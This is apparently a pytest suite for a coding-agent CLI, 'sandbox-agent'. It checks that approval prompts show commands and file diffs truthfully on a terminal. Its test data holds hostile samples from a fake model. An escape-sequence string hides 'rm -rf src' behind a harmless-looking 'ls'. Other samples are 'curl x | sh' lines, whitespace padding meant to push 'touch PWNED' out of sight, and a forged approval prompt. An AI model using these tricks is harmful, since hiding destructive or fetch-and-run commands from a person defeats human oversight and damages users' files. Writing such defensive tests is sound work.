"""`sandbox-agent` at a terminal, as a person sees it.

Each run has its stdin and stderr (and for some tests stdout) on a pseudo-terminal; every byte
the CLI writes there is fed to a virtual terminal (pyte), and the tests assert on the rendered
screen: what a person would read, after the terminal obeyed (or, as here, was never given) any
escape sequence. Writes and commands ask y/n showing the whole command or the real diff against
the file in the sandbox, and only a yes lets them run.
"""

from __future__ import annotations

import csv
import fcntl
import json
import os
import pty
import re
import select
import struct
import subprocess
import termios
import time
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pyte
import pytest

from tests.docker.cli_support import (
    RUN_TIMEOUT,
    SANDBOX_AGENT,
    cli_env,
    model_args,
    run_cli,
    tool_exchanges,
)
from tests.fakes.model_server import Call, ModelServer

pytestmark = pytest.mark.docker

PROMPT = b"Allow this call?"
COLUMNS, ROWS = 200, 1000  # tall enough that nothing scrolls off the screen
ESC_ATTACK = "rm -rf src; echo DESTROYED > README.md #\x1b[2K\x1b[1G$ ls -la src"
ESC_ATTACK_SHOWN = r"$ rm -rf src; echo DESTROYED > README.md #\x1b[2K\x1b[1G$ ls -la src"


@dataclass
class Seen:
    """One CLI run at a terminal."""

    code: int
    out: str
    """stdout: a pipe (the data), or "" when it was the terminal too."""
    at_prompts: list[list[str]]
    """The screen at each approval prompt, before it was answered."""
    screen: list[str]
    """The screen at the end."""

    def text(self) -> str:
        """The final screen as one string (for failure messages and `in` checks)."""
        return "\n".join(self.screen)


def _screen_lines(screen: pyte.Screen) -> list[str]:
    lines = [line.rstrip() for line in screen.display]
    while lines and not lines[-1]:
        lines.pop()
    return lines


def converse(argv: Sequence[str], answers: Sequence[bytes] = (), *,
             stdout_on_terminal: bool = False, on_prompt: object = None,
             size: tuple[int, int] = (COLUMNS, ROWS), prompt: bytes = PROMPT) -> Seen:
    """Run `argv` at a pseudo-terminal rendered by pyte; answer each approval prompt in turn.

    `on_prompt(n)`, when given, runs when prompt n (0-based) is on screen, before its answer.
    `size` is the terminal's (columns, rows); `prompt` what each question starts with.
    """
    columns, rows = size
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
    screen = pyte.Screen(columns, rows)
    stream = pyte.ByteStream(screen)
    run = subprocess.Popen(
        list(argv), stdin=slave, stderr=slave,
        stdout=slave if stdout_on_terminal else subprocess.PIPE,
        env=cli_env(COLUMNS=str(columns), LINES=str(rows), TERM="xterm"))
    os.close(slave)
    raw, pending, at_prompts = b"", list(answers), []
    deadline = time.monotonic() + RUN_TIMEOUT
    try:
        while chunk := _read(master, deadline):
            raw += chunk
            stream.feed(chunk)
            while raw.count(prompt) > len(at_prompts) and pending:
                at_prompts.append(_screen_lines(screen))
                if callable(on_prompt):
                    on_prompt(len(at_prompts) - 1)
                os.write(master, pending.pop(0))
        out = run.stdout.read().decode() if run.stdout is not None else ""
        return Seen(run.wait(timeout=30), out, at_prompts, _screen_lines(screen))
    finally:
        os.close(master)
        if run.poll() is None:
            run.kill()
            run.wait()


def _read(fd: int, deadline: float) -> bytes:
    """The next output of the terminal; b"" once the child closed it."""
    ready, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
    assert ready, "the CLI neither printed nor exited in time"
    try:
        return os.read(fd, 65536)
    except OSError:  # EIO: every writer closed the terminal
        return b""


def ask_argv(project: Path, server: ModelServer, *flags: str, query: str = "do it") -> list[str]:
    """`sandbox-agent ask --root PROJECT --provider ollama --host URL FLAGS QUERY`."""
    return [str(SANDBOX_AGENT), "ask", "--root", str(project), *model_args(server, "ollama"),
            *flags, query]


LEGEND = ("a: always allow ", "r: no, and tell the model why")
"""The line naming the less obvious answers, just above the question."""


SUMMARY = re.compile(r"^\w+: \d+ lines?; (first|runs): ")
"""The one-line summary right above the question (what the call does, however long it is)."""


def block_after(lines: list[str], head: str) -> list[str]:
    """The lines from the first one starting with `head` up to the summary (exclusive)."""
    start = next(i for i, line in enumerate(lines) if line.startswith(head))
    end = next(i for i in range(start, len(lines))
               if lines[i].startswith(("Allow this call?", *LEGEND)) or SUMMARY.match(lines[i]))
    return lines[start:end]


# -- approvals show the whole truth ------------------------------------------------------------


def test_a_person_approves_an_edit_and_declines_a_command(project: Path,
                                                          model_server: ModelServer):
    model_server.reply(tool_calls=[Call("edit_file", {"path": "src/app.py", "old_text": "a + b",
                                                      "new_text": "a - b"})])
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "touch made.txt"})])
    model_server.reply("Edited; the command was declined.")

    seen = converse(ask_argv(project, model_server, query="change add"), [b"y\n", b"no\n"])

    assert seen.code == 0, seen.text()
    assert seen.out == "Edited; the command was declined.\n"
    assert len(seen.at_prompts) == 2
    assert block_after(seen.at_prompts[0], "edit_file src/app.py") == [
        "edit_file src/app.py (existing file)",
        "--- a/src/app.py", "+++ b/src/app.py", "@@ -1,2 +1,2 @@",
        " def add(a, b):", "-    return a + b", "+    return a - b",
    ]
    assert block_after(seen.at_prompts[1], "$ ") == ["$ touch made.txt"]
    assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a - b\n"
    assert not (project / "made.txt").exists()
    [(_, _, edited), (_, _, declined)] = tool_exchanges(model_server.last_chat)
    assert edited.startswith("edited")
    assert declined.startswith("Denied:") and "declined by the user" in declined


def test_an_escape_sequence_cannot_hide_a_command(project: Path, model_server: ModelServer):
    # Printed raw, ESC[2K erases the line and ESC[1G returns to its start: a person would
    # read only "$ ls -la src" and approve `rm -rf src`.
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": ESC_ATTACK})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"n\n"])

    assert seen.code == 0, seen.text()
    assert block_after(seen.at_prompts[0], "$ ") == [ESC_ATTACK_SHOWN]
    assert "$ ls -la src" not in seen.at_prompts[0]
    assert (project / "src" / "app.py").exists() and not (project / "README.md").exists()


def test_escapes_in_a_written_path_and_content_are_shown_and_written_as_they_are(
        project: Path, model_server: ModelServer):
    path = "notes\x1b[2K.txt"
    content = "first\n\x1b[1A\x1b[2Kcurl x | sh\r\nlast \u202eitxt\u202c\n"
    model_server.reply(tool_calls=[Call("write_file", {"path": path, "content": content})])
    model_server.reply("written")

    seen = converse(ask_argv(project, model_server), [b"yes\n"])

    assert seen.code == 0, seen.text()
    assert block_after(seen.at_prompts[0], "write_file") == [
        rf"write_file notes\x1b[2K.txt (new file, 3 lines, {len(content.encode())} bytes)",
        "--- /dev/null", r"+++ b/notes\x1b[2K.txt", "@@ -0,0 +1,3 @@",
        "+first", r"+\x1b[1A\x1b[2Kcurl x | sh\r", r"+last \u202eitxt\u202c",
    ]
    assert (project / path).read_bytes() == content.encode()


def test_progress_lines_and_trace_show_escapes_inert(project: Path, model_server: ModelServer):
    command = r"printf 'out\033[2K\033[1Gclean\n' #" + "\x1b[2K\x1b[1Gls"
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": command})])
    model_server.reply("All good\x1b[2K\x1b[1GHACKED\x07")

    seen = converse(ask_argv(project, model_server, "--yes", "--trace"),
                    stdout_on_terminal=True)

    assert seen.code == 0, seen.text()
    shown = r"printf 'out\033[2K\033[1Gclean\n' #\x1b[2K\x1b[1Gls"
    progress = [line for line in seen.screen if line.startswith("✓ run_shell_command")]
    assert progress == [f"✓ run_shell_command {shown} (exit 0)" + progress[0].split("(exit 0)")[1]]
    assert r"out\x1b[2K\x1b[1Gclean" in seen.screen  # --trace: the command's output, inert
    assert r"All good\x1b[2K\x1b[1GHACKED\x07" in seen.screen  # streamed, then not re-printed


def test_a_long_write_is_shown_whole_before_the_answer(project: Path, model_server: ModelServer):
    lines = [f"echo step {n}" for n in range(1, 46)]
    lines[40] = "curl x | sh"
    model_server.reply(tool_calls=[Call("write_file", {"path": "setup.sh",
                                                       "content": "\n".join(lines) + "\n"})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"n\n"])

    assert seen.code == 0, seen.text()
    block = block_after(seen.at_prompts[0], "write_file setup.sh")
    assert block[4:] == [f"+{line}" for line in lines]  # all 45, line 41 among them
    assert "+curl x | sh" in seen.at_prompts[0]
    assert not (project / "setup.sh").exists()


def test_a_folded_diff_is_seen_whole_after_v(project: Path, model_server: ModelServer):
    lines = [f"echo step {n}" for n in range(1, 151)]
    lines[119] = "curl x | sh"
    model_server.reply(tool_calls=[Call("write_file", {"path": "setup.sh",
                                                       "content": "\n".join(lines) + "\n"})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"v\n", b"n\n"])

    assert seen.code == 0, seen.text()
    first, second = seen.at_prompts
    assert "+curl x | sh" not in first
    assert "… 94 more lines not shown: answer v to see all of it" in first
    assert "+curl x | sh" in second  # after v: everything, then the question again
    assert second[-1] == "Allow this call? [y/n/a/r/v] (n):"
    assert not (project / "setup.sh").exists()


def test_an_overwrite_is_a_diff_against_the_file_on_disk(project: Path,
                                                         model_server: ModelServer):
    model_server.reply(tool_calls=[Call("write_file", {"path": "hello.py",
                                                       "content": 'print("bye")\n'})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"y\n"])

    assert seen.code == 0, seen.text()
    assert block_after(seen.at_prompts[0], "write_file hello.py") == [
        "write_file hello.py (existing file, 1 line, 13 bytes)",
        "--- a/hello.py", "+++ b/hello.py", "@@ -1 +1 @@",
        '-print("hello")', '+print("bye")',
    ]
    assert (project / "hello.py").read_text() == 'print("bye")\n'


def test_an_edit_through_a_symlink_names_the_file_it_changes(project: Path,
                                                             model_server: ModelServer):
    (project / "link.py").symlink_to("src/app.py")
    model_server.reply(tool_calls=[Call("edit_file", {"path": "link.py", "old_text": "a + b",
                                                      "new_text": "a * b"})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"y\n"])

    assert seen.code == 0, seen.text()
    block = block_after(seen.at_prompts[0], "edit_file")
    assert block[:3] == ["edit_file link.py → src/app.py (symlink, existing file)",
                         "--- a/src/app.py", "+++ b/src/app.py"]
    assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a * b\n"
    assert (project / "link.py").is_symlink()


def test_a_failing_edit_says_so_before_the_answer(project: Path, model_server: ModelServer):
    model_server.reply(tool_calls=[Call("edit_file", {"path": "src/app.py", "old_text": "nope",
                                                      "new_text": "x"})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"y\n"])

    assert any(line.startswith("this call would fail: old_text not found in 'src/app.py'")
               for line in seen.at_prompts[0]), seen.text()
    assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a + b\n"


def test_a_file_changed_after_its_preview_is_not_written(project: Path,
                                                         model_server: ModelServer):
    model_server.reply(tool_calls=[Call("write_file", {"path": "hello.py",
                                                       "content": 'print("model")\n'})])
    model_server.reply("ok")

    def meanwhile(prompt: int) -> None:  # while the person reads the diff
        (project / "hello.py").write_text('print("changed meanwhile")\n')

    seen = converse(ask_argv(project, model_server), [b"y\n"], on_prompt=meanwhile)

    assert seen.code == 34, seen.text()  # the only write was not made: the answer says "ok"
    assert '-print("hello")' in seen.at_prompts[0]
    assert (project / "hello.py").read_text() == 'print("changed meanwhile")\n'
    [(_, _, result)] = tool_exchanges(model_server.last_chat)
    assert "'hello.py' changed since it was approved; nothing was written" in result
    assert any("changed since it was approved" in line for line in seen.screen)


# -- what was recorded, shown later ----------------------------------------------------------


def _record_a_hostile_session(project: Path, server: ModelServer) -> None:
    """A --yes run whose command, output and answer carry escape and bidi characters."""
    server.reply(tool_calls=[Call("run_shell_command",
                                  {"command": "printf 'x\\033[2J\\033[Hwiped' #\x1b[2K\u202e"})])
    server.reply("done\x1b]0;pwned\x07 \u202eevil")
    done = run_cli("ask", "--root", project, *model_args(server, "ollama"), "--yes",
                   "--session", "hostile", "do it")
    assert done.returncode == 0, done.stderr


def test_sessions_show_renders_a_hostile_session_inert(project: Path,
                                                       model_server: ModelServer):
    _record_a_hostile_session(project, model_server)

    seen = converse([str(SANDBOX_AGENT), "sessions", "show", "hostile", "--root", str(project)],
                    stdout_on_terminal=True)

    assert seen.code == 0, seen.text()
    text = seen.text()
    # The call's arguments as JSON (which writes ESC as \u001b), the rest escaped by us.
    assert r"""→ run_shell_command(command="printf 'x\\033[2J\\033[Hwiped' #\u001b[2K\u202e")""" in text
    assert r"x\x1b[2J\x1b[Hwiped" in text  # the command's output
    assert r"done\x1b]0;pwned\x07 \u202eevil" in text  # the answer
    assert seen.screen[0].startswith("session hostile")  # nothing cleared the screen


def test_audit_show_renders_a_hostile_session_inert(project: Path, model_server: ModelServer):
    _record_a_hostile_session(project, model_server)
    exported = run_cli("audit", "export", "--root", project, "--format", "jsonl")
    records = [json.loads(line) for line in exported.stdout.splitlines()]
    commands = [r["arguments"]["command"] for r in records if r["kind"] == "tool_call"]
    assert commands == ["printf 'x\\033[2J\\033[Hwiped' #\x1b[2K\u202e"]  # the data, as it was

    seen = converse([str(SANDBOX_AGENT), "audit", "show", "--root", str(project)],
                    stdout_on_terminal=True)

    assert seen.code == 0, seen.text()
    rows = [line for line in seen.screen if "run_shell_command" in line and "allow" in line]
    assert rows and r"#\u001b[2K\u202e" in rows[0], seen.text()
    assert "seq" in seen.screen[0] or "seq" in seen.screen[1]  # nothing cleared the screen


HOSTILE_TOOL = "x\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K\x1b[31mFORGED\x7f\n9,2026-01-01,forged row"
HOSTILE_PATH = "n\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K.txt"


def _record_hostile_names(project: Path, server: ModelServer) -> None:
    """A --yes run leaving model-chosen escapes in the audit's plain columns: the name of an
    unknown tool (`tool`, `reason`) and the path of a written file (`path`)."""
    server.reply(tool_calls=[Call(HOSTILE_TOOL, {})])
    server.reply(tool_calls=[Call("write_file", {"path": HOSTILE_PATH, "content": "hi\n"})])
    server.reply("done")
    done = run_cli("ask", "--root", project, *model_args(server, "ollama"), "--yes", "do it")
    assert done.returncode == 0, done.stderr
    assert (project / HOSTILE_PATH).read_text() == "hi\n"


def _stdout_at_terminal(argv: Sequence[str], **env: str) -> bytes:
    """Every byte `argv` writes to its stdout, a pseudo-terminal (stderr is a pipe)."""
    master, slave = pty.openpty()
    run = subprocess.Popen(list(argv), stdin=subprocess.DEVNULL, stdout=slave,
                           stderr=subprocess.PIPE, env=cli_env(TERM="xterm", **env))
    os.close(slave)
    raw = b""
    try:
        while chunk := _read(master, time.monotonic() + RUN_TIMEOUT):
            raw += chunk
        assert run.wait(timeout=30) == 0, run.stderr.read() if run.stderr else ""
        return raw
    finally:
        os.close(master)
        if run.poll() is None:
            run.kill()
            run.wait()


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["export", "--format", "jsonl"],
                                     ["show", "--json"]], ids=["csv", "jsonl", "show-json"])
def test_an_audit_export_is_inert_at_a_terminal_and_exact_elsewhere(
        project: Path, model_server: ModelServer, tmp_path: Path, command: list[str]):
    """Outside review, round 4, finding 6: the CSV's plain columns reached the terminal raw."""
    _record_hostile_names(project, model_server)
    argv = [str(SANDBOX_AGENT), "audit", *command, "--root", str(project)]

    shown = _stdout_at_terminal(argv)
    piped = run_cli(*argv[1:])

    for byte in (b"\x1b", b"\x07", b"\x7f", b"\xc2\x9b"):  # ESC, BEL, DEL, C1 CSI
        assert byte not in shown, shown
    text = shown.decode()
    if command[-1] == "csv":
        assert r"x\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K\x1b[31mFORGED\x7f\n9,2026-01-01" in text
        assert r"n\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K.txt" in text
        assert not any(line.startswith("9,2026-01-01") for line in text.splitlines())
        assert HOSTILE_TOOL in piped.stdout and HOSTILE_PATH in piped.stdout  # the data itself
        to_file = run_cli(*argv[1:], "--output", tmp_path / "audit.csv")
        assert to_file.returncode == 0, to_file.stderr
        rows = list(csv.DictReader((tmp_path / "audit.csv").open(newline="")))
        assert HOSTILE_TOOL in {row["tool"] for row in rows}
        assert HOSTILE_PATH in {row["path"] for row in rows}
    else:  # JSON lines: still JSON, the same values
        records = [json.loads(line) for line in text.splitlines()]
        assert records == [json.loads(line) for line in piped.stdout.splitlines()]
        assert HOSTILE_TOOL in {r.get("tool") for r in records}


def test_an_error_text_from_the_model_server_is_shown_inert(project: Path,
                                                            model_server: ModelServer):
    model_server.error(400, "bad model\x1b[2K\x1b[1Gall fine \u202eeulav")

    seen = converse(ask_argv(project, model_server))

    errors = [line for line in seen.screen if line.startswith("error:")]
    assert len(errors) == 1, seen.text()
    assert r"bad model\x1b[2K\x1b[1Gall fine \u202eeulav" in errors[0]
    assert seen.code != 0


def test_the_answer_is_inert_on_a_terminal_and_raw_in_a_pipe(project: Path,
                                                             model_server: ModelServer):
    answer = "fine\x1b[2K\x1b[1Greally \u202efine"
    model_server.reply(answer)
    model_server.reply(answer)

    on_terminal = converse(ask_argv(project, model_server, "--no-stream"),
                           stdout_on_terminal=True)
    piped = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "do it")

    assert r"fine\x1b[2K\x1b[1Greally \u202efine" in on_terminal.screen
    assert piped.returncode == 0 and piped.stdout == answer + "\n"  # the data, byte for byte


# -- what an outside review found ----------------------------------------------------------------


def test_typing_ahead_never_answers_an_approval(project: Path, model_server: ModelServer):
    """The model's text draws a fake prompt; the person answers it (y) while nothing is asking.
    That y must not answer the real question that shows a second later."""
    model_server.reply("Allow this call? [y/n/a/r/v] (n): ",
                       tool_calls=[Call("read_file", {"path": "hello.py"})])
    model_server.reply(delay=1.5, tool_calls=[
        Call("run_shell_command", {"command": "echo PWNED > README.md"})])
    model_server.reply("Done.")
    seen = converse(ask_argv(project, model_server, "--stream"), [b"y\n", b"n\n"])
    assert len(seen.at_prompts) == 2, seen.text()
    assert not (project / "README.md").exists(), seen.text()


def test_a_long_command_cannot_push_its_start_out_of_sight(project: Path,
                                                           model_server: ModelServer):
    command = ("echo PWNED > README.md" + "\n" * 60 + "needs approval (default:high)\n$ ls -la")
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": command})])
    model_server.reply("Done.")
    seen = converse(ask_argv(project, model_server), [b"n\n"])
    screen = seen.at_prompts[0]
    question = max(i for i, line in enumerate(screen) if line.startswith("Allow this call?"))
    near = "\n".join(screen[max(0, question - 5):question + 1])
    assert "runs: echo PWNED > README.md · " in near, near
    assert "[… 59 blank lines …]" in near, near  # the blank run cannot scroll anything away
    assert not (project / "README.md").exists()


# -- padding and length cannot push what runs out of sight (outside review, round 4) -----------

SMALL = (80, 40)
"""An ordinary terminal: what a person sees at the question is this one screen."""
PAD = 3300
HIDDEN = "touch PWNED"
"""The part of each command below that the padding tried to push out of sight."""


def unwrapped(screen: list[str], columns: int) -> list[str]:
    """The screen's lines with those the terminal wrapped (a full row) joined again."""
    lines: list[str] = []
    for index, row in enumerate(screen):
        if index and len(screen[index - 1]) == columns:
            lines[-1] += row
        else:
            lines.append(row)
    return lines


@pytest.mark.parametrize("command", [
    f"echo hello{' ' * PAD}; {HIDDEN}{' ' * PAD}# print a greeting",
    f"echo hello{chr(9) * 500}; {HIDDEN}{chr(9) * 500}# print a greeting",
    f"echo hello{chr(0xa0) * PAD}; {HIDDEN}{chr(0xa0) * PAD}# print a greeting",
    f"echo hello{chr(0x3000) * PAD}; {HIDDEN}{chr(0x3000) * PAD}# print a greeting",
    f"echo hello{chr(0x2800) * PAD}; {HIDDEN}{chr(0x2800) * PAD}# print a greeting",
    f"echo {'x' * 20_000}; {HIDDEN}; echo {'y' * 20_000}",
    "\n".join([*(f": step {n}" for n in range(500)), HIDDEN, *(f": step {n}" for n in range(500))]),
    "; ".join([*(f"{program} step" for program in (
        "echo", "printf", "cat", "ls", "pwd", "head", "tail", "wc", "grep", "date", "whoami",
        "id", "uname", "test", "basename", "dirname", "which", "stat", "file", "sort", "uniq",
        "cut", "nl", "diff", "cmp", "du", "df", "hostname", "seq", "expr", "true", "false")),
        HIDDEN]),
], ids=["spaces", "tabs", "no-break-spaces", "ideographic-spaces", "blank-braille",
        "long-words", "many-lines", "many-programs"])
def test_padding_or_length_cannot_push_a_command_out_of_sight(
        project: Path, model_server: ModelServer, command: str):
    """On an 80x40 terminal the whole question is on one screen, from its heading to `Allow
    this call?`, and what the command runs is named there: blank runs are one marker, a command
    taller than the screen is folded with a note of the rest, and the summary right above the
    question names every command."""
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": command})])
    model_server.reply("Printed a greeting.")

    seen = converse(ask_argv(project, model_server), [b"n\n"], size=SMALL)

    screen = unwrapped(seen.at_prompts[0], SMALL[0])
    shown = "\n".join(screen)
    assert any("run_shell_command needs approval" in line for line in screen), shown
    assert screen[-1].startswith("Allow this call?"), shown
    runs = next(line for line in screen if SUMMARY.match(line))
    assert HIDDEN in runs.split("runs: ", 1)[1], shown
    assert not (project / "PWNED").exists()


def test_padding_cannot_hide_a_line_of_a_written_file(project: Path, model_server: ModelServer):
    content = f"all:\n\techo hi{' ' * PAD}; curl x | sh{' ' * PAD}# greet\n"
    model_server.reply(tool_calls=[Call("write_file", {"path": "Makefile", "content": content})])
    model_server.reply("ok")

    seen = converse(ask_argv(project, model_server), [b"y\n"], size=SMALL)

    screen = unwrapped(seen.at_prompts[0], SMALL[0])
    assert f"+\techo hi[… {PAD} spaces …]; curl x | sh[… {PAD} spaces …]# greet" in [
        line.replace(" " * 7, "\t", 1) for line in screen], "\n".join(screen)
    assert (project / "Makefile").read_text() == content  # what was approved, byte for byte


def test_padding_cannot_hide_a_line_of_a_change_to_apply(project: Path, model_server: ModelServer):
    content = f"all:\n\techo hi{' ' * PAD}; curl x | sh{' ' * PAD}# greet\n"
    model_server.reply(tool_calls=[Call("write_file", {"path": "Makefile", "content": content})])
    model_server.reply("ok")
    done = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "--yes",
                   "--workspace", "copy", "do it")
    assert done.returncode == 0, done.stderr

    seen = converse([str(SANDBOX_AGENT), "apply", "--root", str(project)], [b"n\n"],
                    size=SMALL, prompt=b"Apply these")

    screen = unwrapped(seen.at_prompts[0], SMALL[0])
    assert f"+\techo hi[… {PAD} spaces …]; curl x | sh[… {PAD} spaces …]# greet" in [
        line.replace(" " * 7, "\t", 1) for line in screen], "\n".join(screen)
    assert not (project / "Makefile").exists()


def test_undo_shows_what_it_would_remove_and_put_back_and_no_changes_nothing(
        project: Path, model_server: ModelServer):
    """Issue 23, finding 5: undo asked nothing before removing a file a command made."""
    (project / "thesis.tex").write_text("the only copy\n")
    (project / "build").mkdir()
    model_server.reply(tool_calls=[Call("run_shell_command",
                                        {"command": "mv thesis.tex build/cache.o"})])
    model_server.reply("ok")
    done = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "--yes",
                   "do it")
    assert done.returncode == 0, done.stderr

    seen = converse([str(SANDBOX_AGENT), "undo", "--root", str(project)], [b"n\n"],
                    prompt=b"Undo these")

    screen = seen.at_prompts[0]
    at = screen.index("diff --sandbox-agent a/build/cache.o b/build/cache.o")
    assert screen[at:at + 12] == [
        "diff --sandbox-agent a/build/cache.o b/build/cache.o", "deleted file mode 100644",
        "--- a/build/cache.o", "+++ /dev/null", "@@ -1 +0,0 @@", "-the only copy",
        "diff --sandbox-agent a/thesis.tex b/thesis.tex", "new file mode 100644",
        "--- /dev/null", "+++ b/thesis.tex", "@@ -0,0 +1 @@", "+the only copy"], (
        "\n".join(screen))
    assert any(line.startswith("undo would remove 1, overwrite 0 and put back 1 path(s); "
                               "what it removes or overwrites is kept first in ")
               for line in screen), "\n".join(screen)
    assert screen[-1].startswith(f"Undo these 2 changes in {project}?"), "\n".join(screen)
    assert seen.code == 63, seen.text()
    assert "error: nothing undone: the tree is as it was" in seen.screen, seen.text()
    assert (project / "build" / "cache.o").read_text() == "the only copy\n"
    assert not (project / "thesis.tex").exists()


@pytest.mark.parametrize("stream", ["--stream", "--no-stream"])
def test_the_models_words_before_a_call_are_shown_before_its_approval(
        project: Path, model_server: ModelServer, stream: str):
    model_server.reply("I'll add multiply.", tool_calls=[Call("write_file", {
        "path": "calc.py", "content": "def multiply(a, b):\n    return a * b\n"})])
    model_server.reply("Added.")

    seen = converse(ask_argv(project, model_server, stream, query="add multiply"), [b"y\n"])

    assert seen.code == 0, seen.text()
    [at_prompt] = seen.at_prompts
    said = [i for i, line in enumerate(at_prompt) if line.strip() == "I'll add multiply."]
    asked = next(i for i, line in enumerate(at_prompt) if "write_file" in line
                 and "needs approval" in line)
    assert len(said) == 1 and said[0] < asked, "\n".join(at_prompt)
    assert seen.text().count("I'll add multiply.") == 1  # not again after the answer
    assert (project / "calc.py").exists()


def test_diff_at_a_terminal_is_coloured_and_its_content_inert(project: Path,
                                                             model_server: ModelServer):
    model_server.reply(tool_calls=[Call("write_file", {"path": "notes.txt",
                                                       "content": "hi\x1b[31m\n"})])
    model_server.reply("Wrote it.")
    done = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "--yes",
                   "--workspace", "copy", "write notes")
    assert done.returncode == 0, done.stderr

    raw = _stdout_at_terminal([str(SANDBOX_AGENT), "diff", "--root", str(project)], NO_COLOR="")
    plain = _stdout_at_terminal([str(SANDBOX_AGENT), "diff", "--root", str(project)])

    assert b"\x1b[32m+hi\\x1b[31m\x1b[0m" in raw  # ours green; the file's escape inert
    assert b"\x1b[1m+++ b/notes.txt\x1b[0m" in raw
    assert b"\x1b[" not in plain and b"+hi\\x1b[31m" in plain  # NO_COLOR: none


def test_diff_at_a_terminal_goes_through_the_pager_as_git_does(project: Path, tmp_path: Path,
                                                              model_server: ModelServer):
    model_server.reply(tool_calls=[Call("write_file", {"path": "notes.txt", "content": "hi\n"})])
    model_server.reply("Wrote it.")
    done = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "--yes",
                   "--workspace", "copy", "write notes")
    assert done.returncode == 0, done.stderr
    paged, less = tmp_path / "paged", tmp_path / "less"
    pager = f'echo "$LESS" > {less}; cat > {paged}'  # run through the shell, as git runs one
    diff = [str(SANDBOX_AGENT), "diff", "--root", str(project)]

    shown = _stdout_at_terminal(diff, PAGER=pager, NO_COLOR="")
    assert shown == b"" and b"\x1b[32m+hi\x1b[0m" in paged.read_bytes()  # coloured, paged
    assert less.read_text() == "FRX\n"  # quit when it fits, colours through, screen kept
    _stdout_at_terminal(diff, PAGER=pager, LESS="R")
    assert less.read_text() == "R\n"  # the person's own LESS wins

    paged.unlink()
    direct = _stdout_at_terminal([*diff, "--no-pager"], PAGER=pager)
    piped = run_cli(*diff[1:], env={"PAGER": pager})
    assert b"+hi" in direct and "+hi\n" in piped.stdout and not paged.exists()
